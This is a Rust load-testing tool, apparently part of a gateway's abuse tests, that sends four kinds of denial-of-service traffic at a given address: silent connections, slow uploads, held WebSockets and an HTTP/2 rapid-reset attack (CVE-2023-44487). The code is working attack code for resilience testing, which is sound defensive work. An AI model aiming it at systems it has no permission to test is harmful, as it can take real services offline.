//! The attacker of `loadtests/abuse.sh`: keeps one kind of hostile traffic
//! going against a gateway for a while, then stops.
//!
//! - `silent N`: N TCP connections that never send a byte (reopened when
//!   the gateway closes them);
//! - `slow-upload N`: N POSTs that promise a body and send one byte a second;
//! - `websockets N`: N WebSocket connections held open;
//! - `rapid-reset N`: one HTTP/2 connection at a time that opens N streams
//!   and resets each a few milliseconds after its HEADERS (CVE-2023-44487).
//!
//! It prints what it did (connections made, refused) when the time is up.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use clap::{Parser, ValueEnum};
use http_body_util::Empty;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

#[derive(Parser)]
struct Args {
    /// What to send.
    #[arg(value_enum)]
    attack: Attack,
    /// How many at once.
    count: usize,
    /// The gateway's plain listener.
    #[arg(long)]
    addr: SocketAddr,
    /// The path the WebSockets and uploads go to.
    #[arg(long, default_value = "/echo/x?length")]
    path: String,
    /// How long to keep it up.
    #[arg(long, default_value = "10s", value_parser = humantime_duration)]
    duration: Duration,
}

#[derive(Clone, Copy, ValueEnum)]
enum Attack {
    Silent,
    SlowUpload,
    Websockets,
    RapidReset,
}

fn humantime_duration(text: &str) -> Result<Duration, String> {
    let seconds = text
        .strip_suffix('s')
        .ok_or("write seconds, e.g. 10s")?
        .parse::<u64>()
        .map_err(|error| error.to_string())?;
    Ok(Duration::from_secs(seconds))
}

#[derive(Default)]
struct Tally {
    /// Attempts under way (connections held, or being refused) at the end.
    running: AtomicU64,
    /// Attempts the gateway ended: a silent connection closed, a round done.
    ended: AtomicU64,
    /// Attempts refused or reset (503, a closed upload, a failed handshake).
    failed: AtomicU64,
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    let tally = Arc::new(Tally::default());
    let stop = tokio::time::sleep(args.duration);
    let work = async {
        let tasks: Vec<_> = (0..match args.attack {
            Attack::RapidReset => 1,
            _ => args.count,
        })
            .map(|_| {
                let tally = Arc::clone(&tally);
                let (addr, path, count) = (args.addr, args.path.clone(), args.count);
                tokio::spawn(async move {
                    loop {
                        tally.running.fetch_add(1, Ordering::Relaxed);
                        let result = match args.attack {
                            Attack::Silent => silent(addr).await,
                            Attack::SlowUpload => slow_upload(addr, &path).await,
                            Attack::Websockets => websocket(addr, &path).await,
                            Attack::RapidReset => rapid_reset(addr, count).await,
                        };
                        tally.running.fetch_sub(1, Ordering::Relaxed);
                        let counter = if result.is_ok() {
                            &tally.ended
                        } else {
                            &tally.failed
                        };
                        counter.fetch_add(1, Ordering::Relaxed);
                        if result.is_err() {
                            tokio::time::sleep(Duration::from_millis(50)).await;
                        }
                    }
                })
            })
            .collect();
        futures::future::join_all(tasks).await;
    };
    tokio::select! {
        () = stop => {}
        () = work => {}
    }
    println!(
        "{}: {} at once for {:?}: {} still under way at the end, {} ended by the gateway, {} refused or failed",
        match args.attack {
            Attack::Silent => "silent connections",
            Attack::SlowUpload => "slow uploads",
            Attack::Websockets => "WebSockets",
            Attack::RapidReset => "HTTP/2 rapid reset",
        },
        args.count,
        args.duration,
        tally.running.load(Ordering::Relaxed),
        tally.ended.load(Ordering::Relaxed),
        tally.failed.load(Ordering::Relaxed)
    );
}

/// Connects and waits until the gateway hangs up.
async fn silent(addr: SocketAddr) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(addr).await?;
    let mut buffer = [0u8; 1];
    tokio::io::AsyncReadExt::read(&mut stream, &mut buffer).await?;
    Ok(())
}

/// A POST that promises a megabyte and trickles a byte a second.
async fn slow_upload(addr: SocketAddr, path: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(addr).await?;
    stream
        .write_all(
            format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-length: 1048576\r\n\r\n")
                .as_bytes(),
        )
        .await?;
    loop {
        stream.write_all(b"x").await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// A WebSocket held open until the gateway closes it.
async fn websocket(addr: SocketAddr, path: &str) -> std::io::Result<()> {
    use futures::StreamExt as _;
    let stream = TcpStream::connect(addr).await?;
    let (mut socket, _) = tokio_tungstenite::client_async(format!("ws://{addr}{path}"), stream)
        .await
        .map_err(std::io::Error::other)?;
    while let Some(frame) = socket.next().await {
        frame.map_err(std::io::Error::other)?;
    }
    Ok(())
}

/// One h2c connection: `count` requests, each dropped (RST_STREAM CANCEL)
/// a few milliseconds after its HEADERS.
async fn rapid_reset(addr: SocketAddr, count: usize) -> std::io::Result<()> {
    let stream = TcpStream::connect(addr).await?;
    let (sender, connection) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(stream))
            .await
            .map_err(std::io::Error::other)?;
    tokio::spawn(connection);
    for _ in 0..count {
        let request = http::Request::get(format!("http://{addr}/hello"))
            .body(Empty::<Bytes>::new())
            .map_err(std::io::Error::other)?;
        let mut sender = sender.clone();
        let sent = sender.send_request(request);
        let _ = tokio::time::timeout(Duration::from_millis(2), sent).await;
    }
    Ok(())
}
